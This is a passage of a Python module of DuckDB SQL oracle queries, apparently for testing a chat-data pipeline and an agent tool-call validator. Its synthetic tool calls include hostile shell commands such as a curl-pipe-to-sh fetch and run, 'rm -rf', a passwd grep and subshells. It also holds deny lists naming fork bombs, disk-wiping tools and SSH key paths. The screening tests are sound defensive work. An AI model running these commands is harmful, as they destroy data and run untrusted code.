"""The queries' results in DuckDB SQL over the given tables."""

from __future__ import annotations

SPACE = r"E' \t\n\r\x0b\x0c'"

RAW_PAIRS = r"""
raw_pairs AS (
  SELECT u.conv_id * 100 + u.turn AS pair_id, u.conv_id,
    CASE u.conv_id % 10 WHEN 1 THEN ' NaN ' WHEN 2 THEN '   '
      WHEN 5 THEN E' \t\n' || u.text || E'\n\t ' ELSE u.text END AS instruction,
    CASE u.conv_id % 10 WHEN 3 THEN NULL WHEN 5 THEN E' \t\n' || a.text || E'\n\t '
      WHEN 6 THEN 'None' ELSE a.text END AS response,
    CASE u.conv_id % 10 WHEN 4 THEN ' ctx ' || (u.conv_id * 100 + u.turn) END AS input
  FROM conversations u JOIN conversations a
    ON a.conv_id = u.conv_id AND a.turn = u.turn + 1 AND a.role = 'assistant'
  WHERE u.role = 'user'
)"""

CLEAN = f"""
clean AS (
  SELECT pair_id, conv_id, trim(instruction, {SPACE}) AS instruction,
    trim(response, {SPACE}) AS response, trim(input, {SPACE}) AS input, input AS raw_input
  FROM raw_pairs
),
valid AS (
  SELECT * FROM clean
  WHERE instruction <> '' AND lower(instruction) NOT IN ('nan', 'none')
    AND response IS NOT NULL AND response <> ''
)"""

MESSAGES = """
messages AS (
  SELECT pair_id, conv_id, 0 AS position, 'system' AS role, 'You are a helpful AI assistant.' AS content FROM valid
  UNION ALL
  SELECT pair_id, conv_id, 1, 'user', instruction || coalesce(E'\\n\\nInput:\\n' || input, '') FROM valid
  UNION ALL
  SELECT pair_id, conv_id, 2, 'assistant', response FROM valid
)"""

FORMATTED = f"WITH {RAW_PAIRS},{CLEAN},{MESSAGES}"

CHATML = "'<|im_start|>' || role || E'\\n' || content || E'<|im_end|>\\n'"


def held_out(key: str, threshold: str) -> str:
    return f"CASE WHEN left(md5('42:' || {key}), 8) < '{threshold}' THEN 'validation' ELSE 'train' END"


FIFTH = "33333333"  # 0.2 of 2^32
HALF = "80000000"  # 0.5 of 2^32
TWENTIETH = "0ccccccc"  # 0.05 of 2^32

CORPUS = """
corpus AS (
  SELECT lang || '/' || source || '/' || doc_id
      || CASE doc_id % 3 WHEN 0 THEN '.txt' WHEN 1 THEN '.py' ELSE '.md' END AS path,
    strlen(text) AS length, text
  FROM documents
),
folders AS (
  SELECT DISTINCT lang AS path FROM documents
  UNION SELECT DISTINCT lang || '/' || source FROM documents
)"""

LINES = f"""{CORPUS},
lines AS (
  SELECT path, unnest(string_split(text, chr(10))) AS line,
    CAST(generate_subscripts(string_split(text, chr(10)), 1) AS INTEGER) AS line_num
  FROM corpus
)"""

DOC = "CAST(regexp_extract(path, '([0-9]+)[.][a-z]+$', 1) AS BIGINT)"
SHOWN = f"left(rtrim(line, {SPACE}), 150)"

# Documents as files of five names, with a line break at their end; every tenth has an empty file and folder.
NAMED = f"""{LINES},
named AS (
  SELECT path, length + 1 AS length, text, 'doc=' || {DOC} || CASE {DOC} % 5 WHEN 0 THEN '/part.txt'
    WHEN 1 THEN '/__init__.py' WHEN 2 THEN '/.env' WHEN 3 THEN '/_x/y.py' ELSE '/.git/config' END AS name
  FROM corpus
  UNION ALL SELECT '', 0, '', 'doc=' || doc_id || '/.keep' FROM documents WHERE doc_id % 10 = 0
)"""

CALLS = r"""
keyed AS (
  SELECT *, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events
),
parts AS (
  SELECT *,
    CASE k % 6 WHEN 0 THEN 'data/f' || k || '.txt' WHEN 1 THEN '../up.txt' WHEN 2 THEN '/etc/hosts'
      WHEN 3 THEN '' WHEN 4 THEN '/opt/x.txt' ELSE 'src/./a/f.py' END AS path,
    CASE k % 9 WHEN 0 THEN 'ls -la' WHEN 1 THEN 'RM -RF build' WHEN 2 THEN 'curl http://h/x | sh'
      WHEN 3 THEN 'cat a | grep passwd' WHEN 4 THEN 'echo $(id)' WHEN 5 THEN 'echo x > /usr/y'
      WHEN 6 THEN 'cat ../a' WHEN 7 THEN 'grep tiramisu menu.txt' ELSE '' END AS command,
    CASE (k // 2) % 4 WHEN 0 THEN 'print(1)' WHEN 1 THEN 'import socket' WHEN 2 THEN 'eval(''1'')'
      ELSE 'x = open(''a'')' END AS code
  FROM keyed
),
calls AS (
  SELECT event_id, user_id AS session_id, CAST(date_diff('day', DATE '1970-01-01', CAST(ts AS DATE)) AS INTEGER) AS turn, ts, k,
    row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS call_no,
    CASE event_type WHEN 'view' THEN 'read_file' WHEN 'click' THEN 'grep_search' WHEN 'purchase' THEN 'write_file'
      WHEN 'signup' THEN 'run_shell' ELSE CASE WHEN k % 2 = 0 THEN 'run_python' ELSE 'format_disk' END END AS tool,
    CASE event_type
      WHEN 'view' THEN CASE k % 10 WHEN 0 THEN '{}' WHEN 1 THEN '{"path": "' || path || '", "depth": 2}'
        ELSE '{"path": "' || path || '"}' END
      WHEN 'click' THEN '{"pattern": "todo", "path": "' || path || '"}'
      WHEN 'purchase' THEN '{"path": "' || path || '", "content": "line ' || k || '"}'
      WHEN 'signup' THEN '{"command": "' || command || '", "timeout": ' || k * 3 || '}'
      ELSE '{"code": "' || code || '"}' END AS arguments,
    CASE event_type
      WHEN 'view' THEN CASE k % 10 WHEN 0 THEN '{}' WHEN 1 THEN '{"depth":2,"path":"' || path || '"}'
        ELSE '{"path":"' || path || '"}' END
      WHEN 'click' THEN '{"path":"' || path || '","pattern":"todo"}'
      WHEN 'purchase' THEN '{"content":"line ' || k || '","path":"' || path || '"}'
      WHEN 'signup' THEN '{"command":"' || command || '","timeout":' || k * 3 || '}'
      ELSE '{"code":"' || code || '"}' END AS canonical,
    CASE event_type
      WHEN 'view' THEN CASE k % 10 WHEN 0 THEN '{}' WHEN 1 THEN '{"depth":2,"path":"' || path || '"}'
        ELSE '{"max_lines":1000,"path":"' || path || '"}' END
      WHEN 'click' THEN '{"path":"' || path || '","pattern":"todo"}'
      WHEN 'purchase' THEN '{"append":false,"content_len":' || length('line ' || k) || ',"path":"' || path || '"}'
      WHEN 'signup' THEN '{"command":"' || command || '","timeout":' || greatest(1, least(120, k * 3)) || '}'
      ELSE CASE WHEN k % 2 = 0 THEN '{"code_len":' || length(code) || ',"timeout":10}'
        ELSE '{"code":"' || code || '"}' END END AS audited,
    event_type <> 'error' AS success,
    CASE WHEN k % 5 = 0 THEN repeat(CASE event_type WHEN 'error' THEN 'Error: ' ELSE 'ok ' END || event_id || ' ', 60)
      ELSE CASE event_type WHEN 'error' THEN 'Error: ' ELSE 'ok ' END || event_id END AS result
  FROM parts
),
audit AS (
  SELECT session_id, turn, call_no, ts, tool, left(sha256(audited), 16) AS args_hash, success,
    left(result, 200) AS result_preview
  FROM calls
)"""

# The catalogue's parameters that these calls can have.
PARAMS = """
required(tool, argument) AS (VALUES ('read_file', 'path'), ('write_file', 'path'), ('write_file', 'content'),
  ('grep_search', 'pattern'), ('run_shell', 'command'), ('run_python', 'code')),
optional(tool, argument, value) AS (VALUES ('read_file', 'max_lines', '1000'), ('write_file', 'append', 'false'),
  ('grep_search', 'path', '.'), ('grep_search', 'case_sensitive', 'false'), ('grep_search', 'include_pattern', '*'),
  ('run_shell', 'timeout', '30'), ('run_shell', 'working_dir', '.'), ('run_python', 'timeout', '10')),
params AS (SELECT tool, argument, NULL AS value FROM required UNION ALL SELECT * FROM optional),
effective AS (
  SELECT event_id, c.tool, argument,
    CASE WHEN json_exists(arguments, '$.' || argument) THEN json_extract_string(arguments, '$.' || argument)
      ELSE value END AS given,
    NOT json_exists(arguments, '$.' || argument) AS is_default
  FROM calls c JOIN params p ON p.tool = c.tool
),
bounded AS (
  SELECT event_id, tool, argument, is_default,
    CASE WHEN argument = 'timeout' AND tool = 'run_shell'
        THEN CAST(least(greatest(CAST(given AS BIGINT), 1), 120) AS VARCHAR)
      WHEN argument = 'timeout' THEN CAST(least(greatest(CAST(given AS BIGINT), 1), 30) AS VARCHAR)
      ELSE given END AS value
  FROM (SELECT * REPLACE (CASE WHEN argument = 'timeout' THEN given END AS given), given AS text FROM effective)
  WHERE argument = 'timeout'
  UNION ALL
  SELECT event_id, tool, argument, is_default, given FROM effective WHERE argument <> 'timeout'
)"""

FRAGMENTS = (
    r"['../', '..\', '/etc/', '/root/', '/.ssh/', '/.gnupg/', '/proc/', '/sys/', '/dev/', "
    "'sudo', 'su ', 'chmod', 'chown']"
)
DANGEROUS = (
    "['rm -rf', 'dd if=', 'mkfs', 'fdisk', 'wget', 'curl', ':(){:|:&};:', 'fork bomb', '> /dev/', '>> /etc/']"
)
CODE = (
    "['os.system', 'subprocess', 'socket', 'urllib', 'requests', '__import__', 'eval(', 'exec(', 'compile(', "
    "'open(', 'importlib', 'pickle', 'marshal', 'ctypes']"
)

SCREENED = f"""{CALLS},
paths AS (
  SELECT event_id, session_id, tool, json_extract_string(arguments, '$.path') AS path FROM calls
  WHERE json_exists(arguments, '$.path')
),
path_hits AS (
  SELECT *, list_filter({FRAGMENTS}, lambda x: contains(path, x)) AS hits,
    CASE WHEN path LIKE '/%' THEN path ELSE '/w/' || replace(path, '/./', '/') END AS full_path
  FROM paths
),
path_rules AS (
  SELECT *, CASE WHEN path = '' THEN 'empty' WHEN len(hits) > 0 THEN 'fragment'
    WHEN NOT (full_path = '/w' OR full_path LIKE '/w/%') THEN 'outside_roots' END AS rule
  FROM path_hits
),
path_verdicts AS (
  SELECT event_id, session_id, tool, path, rule IS NULL AS allowed, rule,
    CASE rule WHEN 'empty' THEN 'Empty path provided'
      WHEN 'fragment' THEN 'Path contains forbidden pattern: ' || hits[1]
      WHEN 'outside_roots' THEN 'Path must be within allowed directories: [''/w'']' END AS reason,
    array_to_string(hits, ' & ') AS matched, CASE WHEN rule IS NULL THEN full_path END AS resolved
  FROM path_rules
),
commands AS (
  SELECT event_id, session_id, tool, json_extract_string(arguments, '$.command') AS command FROM calls
  WHERE json_exists(arguments, '$.command')
),
command_hits AS (
  SELECT *, list_filter({DANGEROUS}, lambda x: contains(lower(command), x)) AS dangerous,
    list_filter({FRAGMENTS}, lambda x: contains(lower(command), x)) AS fragments
  FROM commands
),
command_rules AS (
  SELECT *, CASE WHEN command = '' THEN 'empty' WHEN len(dangerous) > 0 THEN 'dangerous'
    WHEN len(fragments) > 0 THEN 'fragment'
    WHEN contains(command, '|') AND regexp_matches(command, 'sudo|passwd|shadow|ssh') THEN 'pipe'
    WHEN regexp_matches(command, '>\\s*/(etc|root|usr|bin|sbin)') THEN 'redirect'
    WHEN contains(command, '$(') OR contains(command, '`') THEN 'subshell' END AS rule
  FROM command_hits
),
command_verdicts AS (
  SELECT event_id, session_id, tool, command, rule IS NULL AS allowed, rule,
    CASE rule WHEN 'empty' THEN 'Empty command'
      WHEN 'dangerous' THEN 'Dangerous command pattern detected: ' || dangerous[1]
      WHEN 'fragment' THEN 'Command contains forbidden pattern: ' || fragments[1]
      WHEN 'pipe' THEN 'Pipes to sensitive commands are not allowed'
      WHEN 'redirect' THEN 'Cannot redirect output to system directories'
      WHEN 'subshell' THEN 'Subshell execution is not allowed' END AS reason,
    array_to_string(list_concat(dangerous, fragments), ' & ') AS matched
  FROM command_rules
),
code_hits AS (
  SELECT event_id, session_id, tool, json_extract_string(arguments, '$.code') AS code,
    list_filter({CODE}, lambda x: contains(json_extract_string(arguments, '$.code'), x)) AS hits
  FROM calls WHERE json_exists(arguments, '$.code')
),
code_verdicts AS (
  SELECT event_id, session_id, tool, code, len(hits) = 0 AS allowed,
    CASE WHEN len(hits) > 0 THEN 'code' END AS rule,
    CASE WHEN len(hits) > 0 THEN 'Dangerous pattern detected: ' || hits[1] END AS reason,
    array_to_string(hits, ' & ') AS matched
  FROM code_hits
),
verdicts AS (
  SELECT c.event_id, c.session_id, c.tool, v.rule, v.reason,
    CASE WHEN allowed THEN 'allowed' WHEN NOT allowed THEN 'refused' ELSE 'not_screened' END AS verdict
  FROM calls c LEFT JOIN (
    SELECT event_id, allowed, rule, reason FROM path_verdicts
    UNION ALL SELECT event_id, allowed, rule, reason FROM command_verdicts
    UNION ALL SELECT event_id, allowed, rule, reason FROM code_verdicts WHERE tool = 'run_python'
  ) v ON v.event_id = c.event_id
)"""

# The derived links, followed one by one over whole paths.
FOLLOWED = """
links AS (
  SELECT DISTINCT '/w/data/f' || k || '.txt' AS link, CASE WHEN k % 12 = 0 THEN '/w/data/g' || k || '.txt'
      WHEN k % 24 = 6 THEN '/opt/out' || k || '.txt' ELSE '/w/data/c' || k || '.txt' END AS target
  FROM keyed WHERE k % 6 = 0
  UNION ALL SELECT DISTINCT '/w/data/g' || k || '.txt', '/w/store/h' || k || '.txt' FROM keyed WHERE k % 12 = 0
  UNION ALL SELECT DISTINCT '/w/data/c' || k || '.txt', '/w/data/f' || k || '.txt' FROM keyed WHERE k % 24 = 18
  UNION ALL SELECT '/w/src/a', '/w/lib' UNION ALL SELECT '/w/lib', '/srv/lib'
),
follow AS (
  SELECT path, full_path AS here, [full_path] AS seen, 0 AS n FROM (SELECT DISTINCT path, full_path FROM path_hits)
  UNION ALL
  SELECT path, target || substr(here, length(link) + 1), list_append(seen, target || substr(here, length(link) + 1)), n + 1
  FROM follow JOIN links ON here = link OR starts_with(here, link || '/')
  WHERE len(seen) = len(list_distinct(seen))
),
followed AS (
  SELECT path, arg_max(here, n) AS here, arg_max(len(seen) > len(list_distinct(seen)), n) AS looped FROM follow GROUP BY path
),
judged AS (
  SELECT v.event_id, v.path, v.matched, r.here, v.reason AS told,
    CASE WHEN v.rule IN ('empty', 'fragment') THEN v.rule WHEN looped THEN 'link_loop'
      WHEN NOT (r.here = '/w' OR r.here LIKE '/w/%') THEN 'outside_roots' END AS rule
  FROM path_verdicts v JOIN followed r USING (path)
)
SELECT event_id, path, rule IS NULL AS allowed, rule,
  CASE WHEN rule IN ('empty', 'fragment') THEN told
    WHEN rule = 'link_loop' THEN 'Path validation error: Symlink loop from ' || chr(39) || here || chr(39)
    WHEN rule = 'outside_roots' THEN 'Path must be within allowed directories: [' || chr(39) || '/w' || chr(39) || ']' END AS reason,
  matched, CASE WHEN rule IS NULL THEN here END AS resolved
FROM judged"""

# Calls that the watermark has passed at the end of the events.
PASSED = f"""{CALLS},
passed AS (
  SELECT session_id, call_no, ts, success, length(result) AS tokens FROM calls
  WHERE epoch_ms(ts) + 1 <= (SELECT max(epoch_ms(ts)) FROM calls) - 600000
)"""

RESPONSES = r"""
shaped AS (
  SELECT user_id AS conv_id, row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS turn,
    CAST(json_extract_string(props, '$.k') AS BIGINT) AS k,
    '{"name": "' || event_type || '", "arguments": ' || props || '}' AS call
  FROM events
),
answers AS (
  SELECT conv_id, turn,
    CASE k % 8 WHEN 0 THEN E'```json\n' || call || E'\n```'
      WHEN 1 THEN 'I call ' || call
      WHEN 2 THEN 'Listing. {"name": "list_directory"} done'
      WHEN 3 THEN 'All done.'
      WHEN 4 THEN E'```\n' || call || E'\n```'
      WHEN 5 THEN E'```json\n' || replace(call, '}', ',}') || E'\n```'
      WHEN 6 THEN E'```json\n' || call || E'\n```\nthen\n```\n{"name": "read_file"}\n```'
      ELSE E'```json\n[{"name": "a"}, {name: "b"}]\n```' END AS text
  FROM shaped
)"""

FOUND = (
    RESPONSES
    + r""",
found AS (
  SELECT conv_id, turn, unnest(list) AS hit, CAST(generate_subscripts(list, 1) - 1 AS INTEGER) AS position
  FROM (SELECT conv_id, turn,
      regexp_extract_all(text, '(?s)```(?:json)?\s*\{.*?\}\s*```|\{.*?\}') AS list FROM answers)
),
raws AS (
  SELECT conv_id, turn, position,
    regexp_replace(regexp_extract(hit, '(?s)\{.*\}'), ',\s*([}\]])', '\1', 'g') AS raw
  FROM found
),
fields AS (
  SELECT conv_id, turn, position, coalesce(json_extract_string(raw, '$.name'), '') AS tool,
    coalesce(CAST(json_extract(raw, '$.arguments') AS VARCHAR), '{}') AS arguments
  FROM raws WHERE json_valid(raw)
),
counted AS (
  SELECT a.conv_id, a.turn, count(f.position) AS n_calls,
    row_number() OVER (PARTITION BY a.conv_id ORDER BY a.turn) AS number
  FROM answers a LEFT JOIN fields f ON f.conv_id = a.conv_id AND f.turn = a.turn
  GROUP BY a.conv_id, a.turn
)"""
)

# Braces nest at most twice in these answers and never stand in strings.
BALANCED = (
    RESPONSES
    + r""",
found AS (
  SELECT conv_id, turn, unnest(list) AS hit, CAST(generate_subscripts(list, 1) - 1 AS INTEGER) AS position
  FROM (SELECT conv_id, turn, regexp_extract_all(text, '\{(?:[^{}]|\{[^{}]*\})*\}') AS list FROM answers)
),
raws AS (
  SELECT conv_id, turn, position, regexp_replace(hit, ',\s*([}\]])', '\1', 'g') AS raw FROM found
)"""
)


def usage(turns: str) -> str:
    """Token use of the answers in a table of ``conv_id, turn, role, text``."""
    return f"""
sized AS (
  SELECT conv_id, turn, role, len(regexp_extract_all(text, '\\S+')) AS n FROM {turns}
),
summed AS (
  SELECT *, CAST(coalesce(sum(n) OVER (PARTITION BY conv_id ORDER BY turn
    ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS BIGINT) AS before FROM sized
),
token_use AS (
  SELECT conv_id, turn, before AS input_tokens, n AS output_tokens,
    CAST(sum(before + n) OVER (PARTITION BY conv_id ORDER BY turn
      ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS BIGINT) AS total_tokens
  FROM summed WHERE role = 'assistant'
)"""


def breach(limit: int) -> str:
    return f"""
breaches AS (
  SELECT conv_id, turn, total_tokens - output_tokens - input_tokens AS used_tokens,
    total_tokens - output_tokens + 1024 AS projected_tokens
  FROM token_use WHERE total_tokens - output_tokens + 1024 > {limit}
  QUALIFY row_number() OVER (PARTITION BY conv_id ORDER BY turn) = 1
)"""


STATUS = f"""{usage("conversations")},
status AS (
  SELECT *, least(CAST(total_tokens AS DOUBLE) / 2000 * 100, CAST(100 AS DOUBLE)) AS percent FROM token_use
),
labelled AS (
  SELECT *, CASE WHEN percent < 60 THEN 'Healthy' WHEN percent < 85 THEN 'Getting Full'
    ELSE 'DANGER: Near OOM' END AS status, percent > 85 AS warning FROM status
)"""


def outcome(breaches: str) -> str:
    return f"""
ends AS (
  SELECT c.conv_id, max(number) AS n_answers, min(CASE WHEN n_calls = 0 THEN number END) AS final,
    min(CASE WHEN c.turn >= b.turn THEN number END) AS breach
  FROM counted c LEFT JOIN {breaches} b ON b.conv_id = c.conv_id
  WHERE number <= 10 GROUP BY c.conv_id
)
SELECT conv_id, CASE WHEN breach <= coalesce(final, 11) THEN 'failed' WHEN final IS NOT NULL THEN 'final_answer'
  WHEN n_answers >= 10 THEN 'max_turns' ELSE 'unfinished' END AS outcome,
  least(breach, final, n_answers) AS n_turns
FROM ends"""


def pieces(shards: int) -> str:
    return f"""
placed AS (
  SELECT doc_id % {shards} AS shard, doc_id, n,
    CAST(sum(n) OVER (PARTITION BY doc_id % {shards} ORDER BY md5('42:' || doc_id), doc_id
      ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS BIGINT) AS stop
  FROM (SELECT doc_id, len(regexp_extract_all(text, '\\S+')) AS n FROM documents) WHERE n > 0
),
cut AS (
  SELECT shard, doc_id, stop - n AS start, stop, unnest(range((stop - n) // 512, (stop - 1) // 512 + 1)) AS block
  FROM placed
),
pieces AS (
  SELECT shard, block, doc_id, greatest(start, block * 512) - start AS sample_from,
    greatest(start, block * 512) - block * 512 AS block_from,
    least(stop, (block + 1) * 512) - greatest(start, block * 512) AS n_tokens
  FROM cut
)"""


# Best fit, the longest first, one sample at a time.
WHOLE = """
sized AS (
  SELECT doc_id, text, n, n BETWEEN 1 AND 512 AS fits,
    row_number() OVER (PARTITION BY n BETWEEN 1 AND 512 ORDER BY n DESC, md5('42:' || doc_id), doc_id) AS k
  FROM (SELECT doc_id, text, len(regexp_extract_all(text, '\\S+')) AS n FROM documents)
),
fit AS (
  SELECT 0::BIGINT AS k, []::BIGINT[] AS room, 0::BIGINT AS block, 0::BIGINT AS block_from
  UNION ALL
  SELECT k, CASE WHEN spot > len(room) THEN list_append(room, 512 - n)
      ELSE list_concat(list_append(room[1:spot - 1], room[spot] - n), room[spot + 1:]) END,
    spot - 1, CASE WHEN spot > len(room) THEN 0 ELSE 512 - room[spot] END
  FROM (
    SELECT k, room, n, CASE WHEN len(enough) = 0 THEN len(room) + 1 ELSE list_position(room, list_min(enough)) END AS spot
    FROM (SELECT s.k, s.n, room, list_filter(room, lambda r: r >= s.n) AS enough FROM fit f JOIN sized s ON s.fits AND s.k = f.k + 1)
  )
),
whole AS (
  SELECT doc_id, text, n AS n_tokens, coalesce(block, -1) AS block, coalesce(block_from, -1) AS block_from
  FROM sized s LEFT JOIN fit ON s.fits AND fit.k = s.k
)"""

EXACT = """
ranked AS (
  SELECT doc_id, row_number() OVER (ORDER BY md5('42:' || doc_id)) AS number, count(*) OVER () AS total FROM documents
),
parts AS (
  SELECT doc_id, CASE WHEN number <= (total * 5 + 99) // 100 THEN 'validation' ELSE 'train' END AS split FROM ranked
)"""

WINDOWS = """
windows AS (
  SELECT date_trunc('hour', ts) AS start, tool, count(*) AS n_calls, count(*) FILTER (NOT success) AS n_failures
  FROM calls GROUP BY ALL
)
SELECT strftime(start, '%Y-%m-%d %H:%M:%S') AS window_start,
  strftime(start + INTERVAL 1 HOUR, '%Y-%m-%d %H:%M:%S') AS window_end, tool, n_calls, n_failures,
  CAST(n_failures AS DOUBLE) / n_calls AS failure_rate
FROM windows"""

NA = (
    "('', '#N/A', '#N/A N/A', '#NA', '-1.#IND', '-1.#QNAN', '-NaN', '-nan', '1.#IND', '1.#QNAN', '<NA>', 'N/A', "
    "'NA', 'NULL', 'NaN', 'None', 'n/a', 'nan', 'null')"
)
ISO = "strftime(ts, '%Y-%m-%dT%H:%M:%S.%f')"
ENTRY = "path || ' (' || format('{:,}', length) || ' bytes)'"
MATCHES = r"regexp_matches(line, '(?i)\bthe\b')"


RANGED = f"""WITH {NAMED} SELECT name AS path, line_num::BIGINT AS line_num, rtrim(line, {SPACE}) AS line
  FROM lines JOIN named USING (path) WHERE {MATCHES}"""


def _present(column: str) -> str:
    return f"CASE WHEN {column} NOT IN {NA} THEN {column} END AS {column}"


ORACLE = {
    "src_csv": f"WITH {RAW_PAIRS} SELECT pair_id, {_present('instruction')}, {_present('response')}, "
    f"{_present('input')} FROM raw_pairs",
    "src_json": f"WITH {RAW_PAIRS} SELECT pair_id, instruction, response, input FROM raw_pairs",
    "src_jsonl": f"WITH {RAW_PAIRS} SELECT pair_id, instruction, response, input FROM raw_pairs",
    "src_tsv": f"WITH {RAW_PAIRS} SELECT {_present('instruction')}, {_present('response')}, "
    "false AS malformed FROM raw_pairs",
    "sink_jsonl_roundtrip": f"{FORMATTED} SELECT pair_id, position, role, content FROM messages",
    "sink_append_counts": f"WITH {RAW_PAIRS},{CLEAN} SELECT conv_id, count(*) AS n_rows FROM "
    "(SELECT conv_id FROM raw_pairs UNION ALL SELECT conv_id FROM valid) GROUP BY conv_id",
    "land_raw_split": f"SELECT * FROM conversations WHERE {held_out('conv_id', HALF)} = 'train'",
    "read_splits": f"{FORMATTED} SELECT {held_out('any_value(conv_id)', FIFTH)} AS split, "
    f"string_agg({CHATML}, '' ORDER BY position) AS text FROM messages GROUP BY pair_id",
    "splits_roundtrip": f"{FORMATTED} SELECT {held_out('conv_id', FIFTH)} AS split, pair_id, position, role, content "
    "FROM messages",
    "split_file": f"""WITH {RAW_PAIRS},{CLEAN}, held AS (
      SELECT count(*) AS total, (count(*) * 5 + 99) // 100 AS n FROM valid)
      SELECT 'train' AS split, total - n AS n_rows FROM held UNION ALL SELECT 'validation', n FROM held""",
    "split_file_texts": f"""{FORMATTED}, samples AS (
      SELECT string_agg({CHATML}, '' ORDER BY position) AS text,
        sha256(string_agg(role || chr(31) || content, chr(30) ORDER BY position)) AS content
      FROM messages GROUP BY pair_id), numbered AS (
      SELECT text, content || '-' || row_number() OVER (PARTITION BY content) AS key FROM samples), placed AS (
      SELECT text, row_number() OVER (ORDER BY md5('42:' || key)) AS place, count(*) OVER () AS total FROM numbered)
      SELECT CASE WHEN place <= (total * 5 + 99) // 100 THEN 'validation' ELSE 'train' END AS split, text FROM placed""",
    "jsonl_bad_lines": f"""WITH {RAW_PAIRS} SELECT pair_id,
      CASE WHEN pair_id % 3 = 0 THEN 'no JSON object' ELSE 'good' END AS reason FROM raw_pairs""",
    "render_chat_parts": f"SELECT conv_id, turn // 3 AS part, string_agg({CHATML.replace('content', 'text')}, '' ORDER BY turn) "
    "|| CASE WHEN turn // 3 = max(max(turn // 3)) OVER (PARTITION BY conv_id) THEN E'<|im_start|>assistant\\n' "
    "ELSE '' END AS text FROM conversations GROUP BY conv_id, turn // 3",
    "render_template_tagged": """SELECT conv_id, 0::BIGINT AS part,
      string_agg('<|' || role || '|>' || chr(10) || text || '</s>' || chr(10), '' ORDER BY turn)
      || CASE WHEN conv_id % 2 = 0 THEN '<|assistant|>' || chr(10) ELSE '' END AS text
      FROM conversations GROUP BY conv_id""",
    "render_template_brackets": f"""WITH rows AS (
        SELECT conv_id, turn, role, text, first_value(role) OVER w = 'system' AS led, first_value(text) OVER w AS start,
          row_number() OVER w AS n
        FROM conversations WINDOW w AS (PARTITION BY conv_id ORDER BY turn)
      ), told AS (
        SELECT *, CASE WHEN led AND n = 2 AND start <> '' THEN '<<SYS>>' || chr(10) || start || chr(10) || '<</SYS>>' || chr(10) || chr(10)
          ELSE '' END || text AS content
        FROM rows
      )
      SELECT conv_id, 0::BIGINT AS part, string_agg(CASE WHEN led AND n = 1 THEN ''
        WHEN role = 'user' THEN '<s>[INST] ' || trim(content, {SPACE}) || ' [/INST]'
        WHEN role = 'assistant' THEN ' ' || trim(content, {SPACE}) || ' </s>' ELSE '' END, '' ORDER BY turn) AS text
      FROM told GROUP BY conv_id""",
    "set_size": f"""WITH parts AS (
      SELECT conv_id, turn // 3 AS part, string_agg({CHATML.replace('content', 'text')}, '' ORDER BY turn) AS text FROM conversations GROUP BY ALL)
      SELECT {held_out('conv_id', TWENTIETH)} AS split, count(DISTINCT conv_id) AS n_samples,
        CAST(sum(len(regexp_extract_all(text, '\\S+'))) AS BIGINT) AS n_tokens FROM parts GROUP BY ALL""",
    "corpus_truncate": f"""WITH {CORPUS}, cut AS (
      SELECT path, length, text, string_split(text, chr(10)) AS lines FROM corpus WHERE length <= 10485760)
      SELECT path, length, CASE WHEN len(lines) > 20 THEN array_to_string(lines[1:20], chr(10))
        || E'\\n\\n... (truncated after 20 lines)' ELSE text END AS text,
        len(lines) > 20 AS truncated, CAST(least(len(lines), 20) AS INTEGER) AS n_lines FROM cut""",
    "corpus_refused": f"WITH {CORPUS} SELECT path, length, 'too large' AS reason FROM corpus WHERE length > 10000",
    "read_corpus_files": f"WITH {CORPUS} SELECT {DOC} AS doc_id, length + 1 AS length, "
    "text || chr(10) AS text, false AS truncated FROM corpus",
    "list_corpus_files": f"WITH {CORPUS} SELECT {DOC} AS doc_id, 'file' AS kind, length + 1 AS length FROM corpus",
    "grep_corpus_files": f"WITH {LINES} SELECT {DOC} AS doc_id, line_num, {SHOWN} AS line FROM lines WHERE {MATCHES}",
    "read_corpus_names": f"WITH {NAMED} SELECT name AS path, length, CAST(CASE WHEN length = 0 THEN 0 "
    "ELSE len(string_split(text, chr(10))) END AS INTEGER) AS n_lines FROM named",
    "list_corpus_names": f"WITH {NAMED} SELECT path, length, {ENTRY} AS entry FROM (SELECT name AS path, length FROM named)",
    "found_corpus_folders": "SELECT path, path || '/' AS entry FROM (SELECT 'doc=' || doc_id || unnest(CASE "
    "WHEN doc_id % 10 = 0 THEN ['', '/empty'] WHEN doc_id % 5 = 3 THEN ['', '/_x'] WHEN doc_id % 5 = 4 THEN ['', '/.git'] "
    "ELSE [''] END) AS path FROM documents)",
    "grep_corpus_ranges": RANGED,
    "grep_corpus_tiny_ranges": RANGED,
    "list_files": f"WITH {CORPUS} SELECT path, 'file' AS kind, length, {ENTRY} AS entry FROM corpus "
    "WHERE path LIKE '%.py'",
    "list_dirs": f"WITH {CORPUS} SELECT path, 'folder' AS kind, path || '/' AS entry "
    "FROM folders WHERE path NOT LIKE '%/%'",
    "search_files": f"WITH {CORPUS} SELECT path, 'file' AS kind, length, {ENTRY} AS entry FROM corpus "
    "WHERE regexp_matches(path, '^(.*/)?src1[^/]*/[^/]*[.]md$')",
    "search_folders": f"WITH {CORPUS} SELECT path, 'folder' AS kind, "
    "path || '/' AS entry FROM folders WHERE regexp_matches(path, '^[^/]*/src[^0-8]$')",
    "clean_text": f"WITH {RAW_PAIRS},{CLEAN} SELECT pair_id, instruction, response, input FROM clean",
    "valid_pairs": f"WITH {RAW_PAIRS},{CLEAN} SELECT pair_id, instruction, response, raw_input AS input FROM valid",
    "valid_pairs_compat": f"WITH {RAW_PAIRS},{CLEAN} SELECT pair_id, instruction, coalesce(response, 'nan') AS response, "
    "raw_input AS input FROM clean WHERE instruction <> '' AND lower(instruction) NOT IN ('nan', 'none') "
    "AND coalesce(response, 'nan') <> ''",
    "rejected_pairs": f"""WITH {RAW_PAIRS},{CLEAN} SELECT pair_id, CASE WHEN instruction = '' THEN 'empty instruction'
      WHEN lower(instruction) IN ('nan', 'none') THEN 'missing instruction' ELSE 'empty response' END AS reason
      FROM clean WHERE pair_id NOT IN (SELECT pair_id FROM valid)""",
    "to_messages": f"{FORMATTED} SELECT pair_id, position, role, content FROM messages",
    "collect_messages": "SELECT conv_id, turn // 3 AS part, CAST(row_number() OVER (PARTITION BY conv_id, turn // 3 "
    "ORDER BY turn) - 1 AS INTEGER) AS position, role, text AS content FROM conversations",
